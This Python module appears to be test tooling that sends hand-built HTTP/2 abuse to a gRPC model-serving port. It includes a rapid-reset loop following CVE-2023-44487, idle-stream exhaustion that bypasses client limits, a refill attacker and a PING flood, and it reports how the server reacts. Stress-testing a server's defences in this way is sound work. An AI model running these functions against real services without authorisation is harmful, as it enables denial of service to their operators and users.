"""Hand-written HTTP/2 abuse of a gRPC port (the ``h2`` state machine over a plain socket): what no gRPC
client library will send.

- ``rapid_reset(host, port, streams)``: HEADERS for a Predict then RST_STREAM(CANCEL) at once, ``streams``
  times in a tight loop on one connection (CVE-2023-44487's pattern).
- ``idle_streams(host, port, streams, connections, hold)``: opens ``streams`` Predict streams that never send
  a message on each of ``connections`` connections, all at once before the server's SETTINGS are read (so
  the client-side limit does not apply), and holds them ``hold`` seconds, reading how the server ends them.
- ``idle_stream_refill(host, port, connections, streams, seconds)``: keeps ``streams`` such streams open on
  each connection for ``seconds``, opening a new one for every stream the server ends or refuses.

They return an ``Abuse`` report: streams sent, streams the server refused (RST_STREAM), the grpc-status
of the streams it ended with trailers, whether it sent GOAWAY (and its error code), whether it closed the
connection.
"""

from __future__ import annotations

import contextlib
import socket
import time
from collections import Counter
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

__all__ = ["PREDICT_PATH", "Abuse", "idle_stream_refill", "idle_streams", "ping_flood", "rapid_reset"]

PREDICT_PATH = "/tensorflow.serving.PredictionService/Predict"
H2 = h2.connection.H2Connection


@dataclass
class Abuse:
    sent: int = 0
    refused: int = 0
    statuses: Counter[str] = field(default_factory=Counter)  # grpc-status of streams ended with trailers
    ended: set[tuple[int, int]] = field(default_factory=set)  # (connection, stream) refused or ended
    goaway: str = ""  # the GOAWAY's error code name, "" when none came
    closed: bool = False
    dropped: int = 0  # streams on connections the server closed (past its connection budget)
    held: list[socket.socket] = field(default_factory=list)  # open connections the caller must close
    # every connection used, alive as long as the report: ``ended`` keys on id(), which a freed one would hand on
    connections: list[H2] = field(default_factory=list)

    def close(self) -> None:
        for sock in self.held:
            with contextlib.suppress(OSError):
                sock.close()
        self.held.clear()


def _connect(host: str, port: int) -> tuple[socket.socket, H2]:
    sock = socket.create_connection((host, port), timeout=30)
    conn = H2(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def _headers(host: str, port: int) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", PREDICT_PATH),
        (":authority", f"{host}:{port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def _read(sock: socket.socket, conn: H2, report: Abuse, wait: float) -> bool:
    """Handle what the server sent within ``wait`` seconds (0: only what is already there); True once the
    server has closed the connection."""
    sock.settimeout(wait if wait > 0 else 0.0)
    try:
        while True:
            data = sock.recv(1 << 16)
            if not data:
                report.closed = True
                return True
            try:
                events = conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                report.closed = True
                return True
            for event in events:
                if isinstance(event, h2.events.StreamReset) and event.remote_reset:
                    report.refused += 1
                    report.ended.add((id(conn), event.stream_id))
                elif isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                    status = dict(event.headers).get("grpc-status")
                    if status is not None:
                        report.statuses[status] += 1
                        report.ended.add((id(conn), event.stream_id))
                elif isinstance(event, h2.events.ConnectionTerminated):
                    code = event.error_code
                    report.goaway = code.name if isinstance(code, h2.errors.ErrorCodes) else str(code)
            with contextlib.suppress(OSError):
                sock.sendall(conn.data_to_send())
            sock.settimeout(0.0 if wait <= 0 else wait)
    except (BlockingIOError, TimeoutError):
        return False
    except OSError:  # reset by the server (a connection past its budget)
        report.closed = True
        return True


def rapid_reset(host: str, port: int, streams: int, batch: int = 100) -> Abuse:
    """HEADERS + RST_STREAM ``streams`` times on one connection; stops early on GOAWAY or a closed socket."""
    report = Abuse()
    sock, conn = _connect(host, port)
    headers = _headers(host, port)
    try:
        while report.sent < streams and not report.goaway and not report.closed:
            for _ in range(min(batch, streams - report.sent)):
                stream = conn.get_next_available_stream_id()
                try:
                    conn.send_headers(stream, headers)
                    conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                except h2.exceptions.ProtocolError:  # the connection is over (GOAWAY received)
                    report.closed = True
                    break
                report.sent += 1
            try:
                sock.sendall(conn.data_to_send())
            except OSError:
                report.closed = True
                break
            _read(sock, conn, report, 0)
        _read(sock, conn, report, 2.0)  # what the server says once the loop is over
    finally:
        sock.close()
    return report


def _drop(conn: H2, streams: int, report: Abuse) -> None:
    """The ``streams`` streams of a connection the server closed count as ended (``report.dropped``)."""
    for stream_id in range(1, 2 * streams, 2):
        if (id(conn), stream_id) not in report.ended:
            report.ended.add((id(conn), stream_id))
            report.dropped += 1


def _open(host: str, port: int, connections: int, report: Abuse) -> list[tuple[socket.socket, H2]]:
    """``connections`` connections with the HTTP/2 preface sent, held in ``report`` (refused ones: closed)."""
    opened = []
    for _ in range(connections):
        try:
            sock, conn = _connect(host, port)
        except OSError:
            report.closed = True
            continue
        report.held.append(sock)
        report.connections.append(conn)
        opened.append((sock, conn))
    return opened


def idle_streams(
    host: str, port: int, streams: int, connections: int = 1, hold: float = 2.0, *, until_ended: bool = False
) -> Abuse:
    """``streams`` message-less Predict streams on each of ``connections`` connections, all sent first, then
    held ``hold`` seconds while what the server sends is read (the caller closes ``report.held``). With
    ``until_ended`` the hold stops as soon as the server has ended or refused every stream (``hold`` is then
    a hang guard)."""
    report = Abuse()
    headers = _headers(host, port)
    opened: list[tuple[socket.socket, H2]] = []
    for sock, conn in _open(host, port, connections, report):
        for _ in range(streams):  # all before the server's SETTINGS are read: no client-side limit
            conn.send_headers(conn.get_next_available_stream_id(), headers)
            report.sent += 1
        try:
            sock.sendall(conn.data_to_send())
        except OSError:  # closed by the server once accepted (past its connection budget)
            report.closed = True
            _drop(conn, streams, report)
            continue
        opened.append((sock, conn))
    deadline = time.monotonic() + hold
    while time.monotonic() < deadline:  # refusals and the streams the server ends
        for sock, conn in list(opened):
            if _read(sock, conn, report, 0):  # closed by the server: its streams are over
                opened.remove((sock, conn))
                _drop(conn, streams, report)
        if until_ended and len(report.ended) >= report.sent:
            break
        time.sleep(0.05)
    return report


def idle_stream_refill(host: str, port: int, connections: int, streams: int, seconds: float) -> Abuse:
    """An attacker who refills what the server evicts: ``connections`` connections keep ``streams``
    message-less Predict streams open each for ``seconds`` (at most what the server's SETTINGS allow), and
    every stream the server ends or refuses is replaced at once. ``report.sent`` counts every stream opened;
    the caller closes ``report.held``."""
    report = Abuse()
    headers = _headers(host, port)
    live = [(sock, conn, set[int]()) for sock, conn in _open(host, port, connections, report)]
    deadline = time.monotonic() + seconds
    while live and time.monotonic() < deadline:
        for entry in list(live):
            sock, conn, mine = entry
            for stream_id in [s for s in mine if (id(conn), s) in report.ended]:
                mine.discard(stream_id)
                with contextlib.suppress(h2.exceptions.H2Error):
                    conn.reset_stream(stream_id)  # its slot is free on this side too
            with contextlib.suppress(h2.exceptions.TooManyStreamsError):
                while len(mine) < streams:
                    stream_id = conn.get_next_available_stream_id()
                    conn.send_headers(stream_id, headers)
                    mine.add(stream_id)
                    report.sent += 1
            try:
                sock.sendall(conn.data_to_send())
            except OSError:
                live.remove(entry)  # closed by the server (past its connection budget)
                continue
            if _read(sock, conn, report, 0):
                live.remove(entry)
        time.sleep(0.02)
    return report


def ping_flood(host: str, port: int, pings: int, batch: int = 50) -> Abuse:
    """``pings`` PING frames with no call on the connection; stops early on GOAWAY or a closed socket."""
    report = Abuse()
    sock, conn = _connect(host, port)
    try:
        while report.sent < pings and not report.goaway and not report.closed:
            for _ in range(min(batch, pings - report.sent)):
                conn.ping(report.sent.to_bytes(8, "big"))
                report.sent += 1
            try:
                sock.sendall(conn.data_to_send())
            except OSError:
                report.closed = True
                break
            _read(sock, conn, report, 0.05)
        _read(sock, conn, report, 2.0)
    finally:
        sock.close()
    return report
